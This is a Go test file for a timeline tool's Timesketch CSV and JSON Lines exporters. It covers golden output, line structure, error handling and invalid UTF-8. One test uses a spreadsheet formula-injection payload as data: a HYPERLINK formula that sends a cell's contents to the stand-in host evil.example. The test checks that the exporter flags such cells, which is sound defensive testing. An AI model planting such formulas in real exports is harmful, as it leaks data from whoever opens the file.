package timesketch

import (
	"bytes"
	"errors"
	"iter"
	"strings"
	"testing"

	"chrono/model"

	"github.com/charmbracelet/x/exp/golden"
)

// TestWrite compares the export of an awkward investigation, and the
// losses it reports, with testdata/TestWrite/FORMAT.golden.
func TestWrite(t *testing.T) {
	for _, w := range writers {
		t.Run(w.name, func(t *testing.T) {
			buf, _, lost := w.mustWrite(t, awkward())
			// CRs are spelled out so that no checkout can turn the golden
			// file's CR LF into LF.
			out := strings.ReplaceAll(buf.String(), "\r", `\r`)
			golden.RequireEqual(t, out+"-- losses\n"+strings.Join(lost.Lines(), "\n")+"\n")
		})
	}
}

// TestWriteJSONLLines checks that every event is one line holding one
// object with what Timesketch requires.
func TestWriteJSONLLines(t *testing.T) {
	var buf bytes.Buffer
	tl := example(t)
	n, err := WriteJSONL(&buf, tl.Header, tl.Sources, events(tl.Events), nil)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	if len(lines) != n || n != len(tl.Events) {
		t.Fatalf("%d lines for %d events written of %d", len(lines), n, len(tl.Events))
	}
	for i, l := range lines {
		if !Detect([]byte(l)) || !strings.Contains(l, `"timestamp_desc":`) {
			t.Errorf("line %d is not a Timesketch record: %s", i+1, l)
		}
	}
}

// TestWriteErrors checks that an error of the events stops the export
// with the count so far, and that text CSV could not read back is an
// error, not a broken file.
func TestWriteErrors(t *testing.T) {
	boom := errors.New("store failed")
	failing := func(yield func(model.Event, error) bool) {
		if yield(model.Event{ID: "a", Title: "A", Date: model.MustParseDate("2017")}, nil) {
			yield(model.Event{}, boom)
		}
	}
	for _, w := range []struct {
		name  string
		write func(*bytes.Buffer, iter.Seq2[model.Event, error]) (int, error)
	}{
		{"jsonl", func(b *bytes.Buffer, es iter.Seq2[model.Event, error]) (int, error) {
			return WriteJSONL(b, model.Header{}, nil, es, nil)
		}},
		{"csv", func(b *bytes.Buffer, es iter.Seq2[model.Event, error]) (int, error) {
			return WriteCSV(b, model.Header{}, nil, es, nil)
		}},
	} {
		var buf bytes.Buffer
		if n, err := w.write(&buf, failing); n != 1 || !errors.Is(err, boom) {
			t.Errorf("%s: wrote %d, %v; want 1, %v", w.name, n, err, boom)
		}
		bad := events([]model.Event{{ID: "a", Title: "bad \xff", Date: model.MustParseDate("2017")}})
		if _, err := w.write(&buf, bad); err == nil {
			t.Errorf("%s: invalid UTF-8 written without an error", w.name)
		}
		badQuote := events([]model.Event{{ID: "b", Title: "fine", Date: model.MustParseDate("2017"), Quotes: []model.Quote{{Text: "bad \xff"}}}})
		if _, err := w.write(&buf, badQuote); err == nil {
			t.Errorf("%s: invalid UTF-8 in a quote written without an error", w.name)
		}
	}
}

// TestWriteCSVSaysFormulaCells: Timesketch CSV writes a cell that a
// spreadsheet would run as a formula as it is, as Timesketch reads it,
// and counts it; JSON Lines, which no spreadsheet opens, does not.
func TestWriteCSVSaysFormulaCells(t *testing.T) {
	title := `=HYPERLINK("http://evil.example/?"&A1,"open")`
	tl := model.Timeline{Events: []model.Event{
		{ID: "a", Title: title, Date: model.MustParseDate("2021-01-01T00:00:00Z"), Summary: "@SUM(1+1)"},
		{ID: "b", Title: "Plain", Date: model.MustParseDate("-0043")},
	}}
	for _, w := range writers {
		doc, _, lost := w.mustWrite(t, tl)
		want := 0
		if w.name == "csv" {
			want = 2
		}
		if got := lost.Count(FormulaCells); got != want {
			t.Errorf("%s: %d formula cells counted, want %d", w.name, got, want)
		}
		if w.name == "csv" && !strings.Contains(doc.String(), `"=HYPERLINK(""http://evil.example/?""&A1,""open"")"`) {
			t.Errorf("%s: the title is not written as it is:\n%s", w.name, doc)
		}
	}
}
